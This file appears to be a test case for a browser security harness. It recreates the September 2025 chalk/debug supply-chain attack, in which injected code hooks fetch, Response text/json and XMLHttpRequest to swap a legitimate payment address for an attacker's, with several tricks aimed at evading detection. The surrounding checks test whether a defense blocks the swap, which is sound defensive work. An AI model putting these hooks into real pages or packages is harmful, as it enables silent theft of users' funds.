// A01: where wrappers are welcome and the policy lists nobody, wrappers of every make rewrite what the page reads in answers.
export default {
  id: 'A01',
  title: 'answers rewritten by outer layers, no payees listed',
  source: 'chalk/debug, 8 September 2025; wrappers: layer',
  level: 'prevented',
  policy: () => ({ version: 1, wrappers: 'layer' }),

  async attack(a) {
    const swap = (text) => text.replaceAll(a.GOOD, a.EVIL);
    const before = window.fetch;
    const fresh = async (response) => new Response(swap(await response.text()), response);
    const layer = async (input, init) => {
      await null;
      const way = new URL(input, location.href).searchParams.get('way');
      if (way === 'invented') return new Response(JSON.stringify({ address: a.EVIL }));
      if (way === 'other') return before(`/api/echo?way=other`, { method: 'POST', body: a.EVIL });
      const response = await before(input, init);
      if (way === 'chain') {
        // Not a member of it, nor of what it says it comes from.
        const text = swap(await response.clone().text());
        const between = new Proxy(Object.getPrototypeOf(response), {
          get: (target, key, receiver) =>
            key === 'text' || key === 'json'
              ? async () => (key === 'text' ? text : JSON.parse(text))
              : Reflect.get(target, key, receiver),
          getOwnPropertyDescriptor: (target, key) =>
            key === 'text' || key === 'json' ? undefined : Reflect.getOwnPropertyDescriptor(target, key),
        });
        return Object.setPrototypeOf(response, between);
      }
      if (way === 'fresh' || way === 'blob') return fresh(response);
      if (way === 'own') {
        const text = swap(await response.clone().text());
        return Object.defineProperties(response, {
          text: { value: async () => text },
          json: { value: async () => JSON.parse(text) },
        });
      }
      if (way === 'proxy') {
        const text = swap(await response.clone().text());
        return new Proxy(response, {
          get: (target, key) => (key === 'text' ? async () => text : Reflect.get(target, key, target)),
        });
      }
      if (way === 'subclass') {
        const text = swap(await response.clone().text());
        return new (class extends Response {
          async text() {
            return text;
          }
        })('{}');
      }
      return response;
    };
    try {
      Object.defineProperty(window, 'fetch', { value: layer, configurable: true, writable: true });
    } catch {
      window.fetch = layer;
    }
    try {
      // Defines a property without calling any function of the page's.
      new (class extends function () {
        return window;
      } {
        fetch = layer;
      })();
    } catch {
      // Refused.
    }
    for (const name of ['text', 'json']) {
      const { [name]: read } = Response.prototype;
      Response.prototype[name] = async function () {
        const value = await read.call(this);
        if (name === 'json' && this.url.includes('way=object')) {
          // Honest when it is compared, and another one when the page looks.
          const { ethereum } = value;
          let reads = 0;
          const get = () => (reads++ === 0 ? ethereum : a.EVIL);
          return Object.defineProperty(value, 'ethereum', { get, enumerable: true });
        }
        if (!this.url.includes('way=reader')) return value;
        return typeof value === 'string' ? swap(value) : JSON.parse(swap(JSON.stringify(value)));
      };
    }
    const { open } = XMLHttpRequest.prototype;
    const { get } = Object.getOwnPropertyDescriptor(XMLHttpRequest.prototype, 'responseText');
    XMLHttpRequest.prototype.open = function (...args) {
      try {
        if (String(args[1]).includes('way=shadow'))
          Object.defineProperty(this, 'responseText', { get: () => swap(get.call(this)) });
      } catch {
        // Not configurable.
      }
      return open.apply(this, args);
    };
    try {
      Object.defineProperty(XMLHttpRequest.prototype, 'responseText', {
        get() {
          const text = get.call(this);
          return this.responseURL.includes('way=getter') ? swap(text) : text;
        },
      });
    } catch {
      // Not configurable.
    }
  },

  async action() {
    const read = async (way, form) => {
      try {
        const response = await fetch(`/api/deposit?way=${way}`);
        const given = await response[form]();
        const value = form === 'blob' ? await new Response(given).text() : given;
        return [way, form, typeof value === 'string' ? value : JSON.stringify(value)];
      } catch (error) {
        return [way, form, error.name];
      }
    };
    const load = (way) =>
      new Promise((resolve) => {
        const xhr = new XMLHttpRequest();
        xhr.onload = () => resolve([way, 'xhr', xhr.responseText]);
        xhr.onerror = () => resolve([way, 'xhr', 'error']);
        xhr.open('GET', `/api/deposit?way=${way}`);
        xhr.send();
      });
    const results = [];
    for (const way of ['invented', 'other', 'fresh', 'own', 'proxy', 'subclass', 'reader'])
      results.push(await read(way, 'text'), await read(way, 'json'));
    results.push(
      await read('chain', 'text'),
      await read('chain', 'json'),
      await read('object', 'json'),
      await read('blob', 'blob'),
    );
    results.push(await load('shadow'), await load('getter'));
    return results;
  },

  stolen: ({ result, a }) => result.some(([, , text]) => text.includes(a.EVIL)),
  arrived: ({ result, a }) => result.length === 20 && result.every(([, , text]) => text.includes(a.GOOD)),
  violation: (a) => ({ surface: 'fetch', grade: 'swapped', account: a.EVIL }),
  // Each layer is in the ledger, in the order they were seen, and has earned nothing.
  status: ({ layers }) =>
    layers
      .filter(({ state }) => state === 'unprivileged')
      .map(({ name }) => name)
      .join() === 'fetch,text,json,open,fetch',
};
